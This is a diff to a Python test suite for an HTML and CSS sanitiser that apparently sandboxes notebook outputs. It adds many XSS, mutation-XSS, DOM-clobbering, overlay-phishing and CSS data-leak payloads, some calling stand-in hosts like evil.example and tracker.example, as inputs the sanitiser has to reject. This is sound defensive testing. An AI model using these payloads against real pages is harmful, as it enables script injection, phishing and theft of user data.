@@ -51,45 +51,66 @@ def show(**data: Any) -> dict[str, Any]:
     return content["data"] if content else {}
 
 
+BOXED_TAGS = "svg input label button"
+SVG_TAGS = "svg g defs symbol use path rect circle ellipse line polyline polygon text tspan"
+
+
 class Inspector(HTMLParser):
     """Reads HTML the way a page would, and lists everything that could act, load or reach beyond the output."""
 
-    def __init__(self, html: str) -> None:
+    def __init__(self, html: str, boxed: bool = False) -> None:
         super().__init__(convert_charrefs=True)
         self.faults: list[str] = []
         self.texts: list[str] = []
+        self.boxed = boxed
+        self._depth = 0
         self.feed(html)
         self.close()
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        if tag in FORBIDDEN_TAGS.split():
+        self._depth += tag == "div"
+        allowed = BOXED_TAGS.split() if self.boxed else []
+        if tag in FORBIDDEN_TAGS.split() and tag not in allowed:
             self.faults.append(f"<{tag}>")
+        if tag in ("input", "button") and dict(attrs).get("type") not in ("checkbox", "button"):
+            self.faults.append(f"{tag} {attrs}")
         for name, value in attrs:
             self._attribute(tag, name, value or "")
 
     def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         self.handle_starttag(tag, attrs)
 
+    def handle_endtag(self, tag: str) -> None:
+        self._depth -= tag == "div"
+        if self._depth < 0:
+            self.faults.append("</div> of something else")
+
     def handle_data(self, data: str) -> None:
         self.texts.append(data)
 
     def _attribute(self, tag: str, name: str, value: str) -> None:
-        if name.startswith(("on", "data-")) or name in {"name", "srcdoc", "srcset", "ping"}:
+        if name.startswith(("on", "data-")) or name in {"name", "srcdoc", "srcset", "ping", "form", "autofocus"}:
             self.faults.append(f"{tag} {name}")
-        if name == "id" and not re.fullmatch(r"sandbox-[\w-]+", value):
+        if name in ("id", "for") and not re.fullmatch(r"sandbox-[\w-]+", value):
             self.faults.append(f"{tag} {name}")
-        if name in {"href", "action", "formaction", "xlink:href", "background", "poster", "cite"}:
+        if name == "id" and tag in SVG_TAGS.split() and tag != "symbol":
+            self.faults.append(f"{tag} {name}")
+        if tag == "use" and name in ("href", "xlink:href"):
+            if not re.fullmatch(r"#sandbox-[0-9a-f]{8}-[\w-]+", value):
+                self.faults.append(f"{tag} {name}={value}")
+        elif name in {"href", "action", "formaction", "xlink:href", "background", "poster", "cite"}:
             scheme = urlsplit(re.sub(r"[\x00-\x20]", "", value)).scheme.lower()
             if tag != "a" or scheme not in ALLOWED_LINKS:
                 self.faults.append(f"{tag} {name}={value}")
         if name == "src" and not re.match(r"data:image/(png|jpeg|gif|svg\+xml);base64,[A-Za-z0-9+/=]+$", value):
             self.faults.append(f"{tag} src={value}")
-        if name == "style" and re.search(
-            r"position|z-index|url|expression|behavior|import|transform|margin|@|\\", value
-        ):
+        beyond = "" if self.boxed else "position|z-index|transform|margin|"
+        if name == "style" and re.search(rf"{beyond}url|expression|behavior|import|@|\\", value):
             self.faults.append(f"{tag} style={value}")
+        if tag in SVG_TAGS.split() and re.search(r"url|javascript|data:", value):
+            self.faults.append(f"{tag} {name}={value}")
         if name == "class" and re.search(
-            r"(^|\s)(?!sandbox-)\S*(jp-|lm-|modal|mathjax_process|tex2jax_process)", value
+            r"(^|\s)(?!sandbox-)\S*(jp-|lm-|modal|mathjax_process|tex2jax_process)|(^|\s)sandbox--", value
         ):
             self.faults.append(f"{tag} class={value}")
 
@@ -100,7 +121,17 @@ FRAME = re.compile(
     re.DOTALL,
 )
 FRAME_FILES = Path(frame.__file__).parent
-SHEET_LINE = re.compile(r"(:where\(\.sandbox-[0-9a-f]{12}\) [^{}<>,]+(, )?)+ \{[^{}<>@\\]*\}")
+# What one line of a cleaned style sheet may be: a rule of the output's own elements, a condition, its end.
+SHEET_LINE = re.compile(
+    r"(((:root|html|body)[^{}<>,:]* )?:where\(\.sandbox--?[0-9a-f]{12}\)( [^{}<>]+?)?(, )?)+ \{[^{}<>@\\]*\}"
+    r"|@(media|supports) \([-\w: .]+\) \{|\}"
+)
+WRAPPED = re.compile(
+    r'<div class="sandbox-(?P<boxed>-?)[0-9a-f]{12} jp-RenderedHTMLCommon" '
+    r'style="(?:overflow-y: clip|(?P<box>contain: paint; overflow: auto)); margin: 0; padding: 0">'
+    r"(?:<style>\n(?P<sheet>[^<]*)\n</style>\n)?(?P<content>.*)</div>",
+    re.DOTALL,
+)
 
 
 def framed_content(html: str) -> str | None:
@@ -122,11 +153,13 @@ def faults(html: str) -> list[str]:
     """List what of HTML could act in the page: nothing where it is one of our frames, or a style sheet of its own."""
     if framed_content(html) is not None:
         return []
-    head, mark, rest = html.partition("\n</style>\n")
-    opening, *lines = head.split("\n")
-    if mark and re.fullmatch(r'<div class="sandbox-[0-9a-f]{12}" style="overflow-y: clip"><style>', opening):
-        html = rest if all(map(SHEET_LINE.fullmatch, lines)) else html
-    return Inspector(html).faults
+    wrapped = WRAPPED.fullmatch(html)
+    if wrapped is None:
+        return Inspector(html).faults
+    assert bool(wrapped["boxed"]) == bool(wrapped["box"]), "what is named as a box is one"
+    lines = (wrapped["sheet"] or "}").split("\n")
+    wrong = [line for line in lines if not SHEET_LINE.fullmatch(line) or re.search(r"url\((?!data:)|/\*", line)]
+    return wrong + Inspector(wrapped["content"], boxed=bool(wrapped["box"])).faults
 
 
 HTML_ATTACKS = [
@@ -209,6 +242,47 @@ HTML_ATTACKS = [
     "<dialog open>x</dialog>",
     "<p is=x-script slot=x contenteditable accesskey=x tabindex=0 onkeydown=alert(1)>x</p>",
     "<button popovertarget=x>x</button><p popover>x</p>",
+    "<button type=submit formaction=javascript:alert(1) form=x name=y value=z>x</button>",
+    "<button command=show-modal commandfor=x>x</button>",
+    "<input type=image src=x onerror=alert(1)>x",
+    "<input type=checkbox name=cookie form=login value=1 autofocus onfocus=alert(1)>x",
+    "<input type=checkbox type=image formaction=javascript:alert(1) src=x>x",
+    '<input type="checkbox" id="jupyter-config-data"><label for="jupyter-config-data">x</label>',
+    '<label for="jp-main-dock-panel" onclick="alert(1)">x</label>',
+    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x></use></svg>x",
+    "<svg><use xlink:href=//evil.example/x.svg#x></use></svg>x",
+    "<svg><use href=javascript:alert(1)></use></svg>x",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>x",
+    "<svg><set attributeName=href to=javascript:alert(1)></set><a><text>x</text></a></svg>",
+    "<svg><image href=//tracker.example/p.png></image><feImage href=//tracker.example/p.png></feImage></svg>x",
+    "<svg><rect fill=url(//tracker.example/p.svg#x) style=filter:url(//tracker.example/f.svg#x) /></svg>x",
+    "<svg><style>*{background:url(//tracker.example/p)}</style><path d=M0/></svg>x",
+    "<svg><title><style><img src=x onerror=alert(1)></style></title><path d=M0 /></svg>x",
+    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'></svg>x",
+    "<svg><desc><noscript><p title='</noscript><img src=x onerror=alert(1)>'></desc></svg>x",
+    "<svg><g><![CDATA[</g></svg><img src=x onerror=alert(1)>]]></g></svg>x",
+    "<svg><text>\\href{javascript:alert(1)}{x}</text></svg>",
+    '<svg id=jupyterapp><g id=defaultView><path id=x d="M0 0"/></g></svg>x',
+    "<svg><foreignObject><form id=x></form></foreignObject><rect/></svg><input form=x formaction=javascript:alert(1)>",
+    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>x",
+    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>x",
+    "</div></div><p style='position:fixed;inset:0'>log in again</p>",
+    "<table><div></table></div></div><p style='position:fixed;inset:0'>log in again</p>",
+    "<p style='background:red,image-set(\"//tracker.example/p\" 1x)'>x</p>",
+    "<p style='background:0,url(\"//tracker.example/p\")'>x</p>",
+    "<p style='cursor:url(//tracker.example/p),auto'>x</p>",
+    "<p style='content:attr(title);--x:url(//tracker.example/p)'>x</p>",
+    "<p style='width:1px/*;*/;position:fixed'>x</p>",
+    "<p style='-moz-binding:url(//evil.example/x.xml#x);behavior:url(x.htc)'>x</p>",
+    "<style>input[value^=a]{background:url(//tracker.example/a)}</style><input value=abc>x",
+    "<style>p{color:red/*}</style><style>*/}body{display:none}</style><p>x</p>",
+    "<style>p{background:url(data:image/svg+xml,<svg/onload=alert(1)>)}</style><p>x</p>",
+    "<style>@font-face{font-family:x;src:url(//tracker.example/f)}p{font-family:x}</style><p>x</p>",
+    "<style>@media all{}body{display:none}</style><p>x</p>",
+    "<style>:root{position:fixed;inset:0}html{--x:1;display:none}</style><p>x</p>",
+    "<style>body .jp-Cell,html .x{position:fixed}</style><p class=x>x</p>",
+    "<style>p{color:red;}}body{display:none}</style><p>x</p>",
+    "<div class='-0123456789ab sandbox--0123456789ab'>x</div>",
 ]
 
 
@@ -396,9 +470,9 @@ def test_a_styled_dataframe_keeps_its_style_sheet_under_names_of_its_own() -> No
     style = pd.DataFrame({"a": [1, 2]}).style.set_uuid("x").highlight_max(color="red").bar(color="#123456")
     shown = show(text__html=style.to_html())["text/html"]
     assert re.search(
-        r"#sandbox-T_x_row1_col0 \{background-color: red; width: 10em; background: linear-gradient\(", shown
+        r"#sandbox-[0-9a-f]{8}-T_x_row1_col0 \{background-color: red; width: 10em; background: linear-gradient\(", shown
     )
-    assert '<td id="sandbox-T_x_row1_col0" class="data row1 col0">' in shown
+    assert re.search(r'<td id="sandbox-[0-9a-f]{8}-T_x_row1_col0" class="data row1 col0">', shown)
     assert not faults(shown)
 
 
@@ -407,25 +481,36 @@ def test_a_styled_dataframe_keeps_its_style_sheet_under_names_of_its_own() -> No
     [
         "@import url(//evil.example)",
         "p {color: red} body {display: none} @media all {p {color: blue}}",
-        "p {position: fixed}",
-        "p {margin: -999px}",
-        "p {z-index: 9}",
         "p {background: url(//evil.example/p)}",
         "p {background: image-set('//evil.example/p')}",
         "p {color: red; } </style><script>alert(1)</script>",
-        "p::after {content: 'log in again'}",
         "+ div {color: red}",
         "~ .jp-Cell {color: red}",
         "> p, ~ div {color: red}",
-        ":is(p, body) {color: red}",
         "p:has(~ div) {color: red}",
         "[data-token^=a] {color: red}",
         "p {color: red",
         "p {color: expression(alert(1))}",
         "p {c\\olor: red}",
-        "/* x */ p {color: red}",
         "p {--x: url(//evil.example)}",
-        "p {color: var(--x)}",
+        "p {background: 0,url('//evil.example/p')}",
+        "p {background: red, -webkit-image-set('//evil.example/p' 1x)}",
+        "p {content: attr(title)}",
+        "p {content: 'a\\62 c'}",
+        "p {content: '<'}",
+        "p {content: 'x}",
+        "p {animation: x 1s}",
+        "@keyframes x {from {color: red}}",
+        "@font-face {font-family: x; src: url(//evil.example/f)}",
+        "@media (x) {p {color: red}",
+        "p {color: red}}",
+        "body > p:not(:has(x)) {color: red}",
+        "p {cursor: url(data:image/png;base64,iVBORw0KGgo=)}",
+        "p {filter: url(data:image/svg+xml;base64,PHN2Zy8+)}",
+        "p {--a: var(--b) var(--b)} b {--b: var(--a) var(--a)}",
+        "p {" + "".join(f"--a{n}: var(--a{n + 1}) var(--a{n + 1}) 0;" for n in range(30)) + "--a30: 0123456789}",
+        "p {--a: ';' " + "var(--b) " * 8 + "; --b: " + "x" * 1000 + "}",
+        "p {color: " + "calc(" * 20 + "1" + ")" * 20 + "}",
     ],
 )
 def test_a_style_sheet_that_may_do_more_goes_into_a_frame(sheet: str) -> None:
@@ -442,11 +527,33 @@ def test_a_style_sheet_that_may_do_more_goes_into_a_frame(sheet: str) -> None:
         ("*", ":where(.S) *"),
         ("p, .jp-Cell > p", ":where(.S) p, :where(.S) .sandbox-jp-Cell > p"),
         (".dataframe tr:nth-child(2n + 1):hover", ":where(.S) .dataframe tr:nth-child(2n + 1):hover"),
-        ("a#x.y ~ b", ":where(.S) a#sandbox-x.sandbox-y ~ b"),
+        ("a#x.y ~ b", ":where(.S) a#sandbox-o-x.sandbox-y ~ b"),
+        ("a:not(.x, #y):checked + b::before", ":where(.S) a:not(.sandbox-x, #sandbox-o-y):checked + b::before"),
+        ("html[data-theme=dark] .x", "html[data-theme=dark] :where(.S) .sandbox-x"),
+        ("html[data-secret^=a] .x", None),
+        ("html > .x", ":where(.S) html > .sandbox-x"),
+        (":root", None),
     ],
 )
-def test_rules_apply_below_their_own_output_only(selector: str, clean: str) -> None:
-    assert clean_sheet(f"{selector} {{ color: red; }}", "S") == f"{clean} {{color: red}}"
+def test_rules_apply_below_their_own_output_only(selector: str, clean: str | None) -> None:
+    expected = clean and f"{clean} {{color: red}}"
+    assert clean_sheet(f"{selector} {{ color: red; }}", "S", "o-") == expected
+
+
+def test_a_rule_of_the_page_s_root_gives_an_output_custom_properties_and_nothing_else() -> None:
+    sheet = "html[theme='dark'], body.vscode-dark {--x: red}".replace("'", '"')
+    assert clean_sheet(sheet, "S", boxed=True) == (
+        'html[theme="dark"] :where(.S), body.vscode-dark :where(.S) {--x: red}'
+    )
+    assert clean_sheet("body {--x: red; color: red}", "S", boxed=True) == ":where(.S) body {--x: red; color: red}"
+
+
+def test_rules_under_a_condition_stay_under_it() -> None:
+    dark = "@media (prefers-color-scheme: dark)"
+    assert clean_sheet(f"{dark} {{ p {{ color: red }} }}", "S") == f"{dark} {{\n:where(.S) p {{color: red}}\n}}"
+    assert clean_sheet(f"p {{ color: red; {dark} {{ color: blue }} }}", "S") == (
+        f":where(.S) p {{color: red}}\n{dark} {{\n:where(.S) p {{color: blue}}\n}}"
+    )
 
 
 @pytest.mark.parametrize("mime", ["application/javascript", "text/javascript"])
@@ -507,7 +614,7 @@ def test_an_empty_element_waits_for_the_script_that_fills_it() -> None:
     assert (framed_content(shown.content["data"]["text/html"]) or "").startswith(place["text/html"])
 
 
-@pytest.mark.parametrize("html", ['<svg width="9" height="9"><rect width="9" height="9"/></svg>', "<canvas></canvas>"])
+@pytest.mark.parametrize("html", ["<svg><image href='x'/></svg>", "<canvas></canvas>"])
 def test_a_drawing_without_a_word_is_seen(html: str) -> None:
     assert framed_content(show(text__html=html)["text/html"]) == html
 
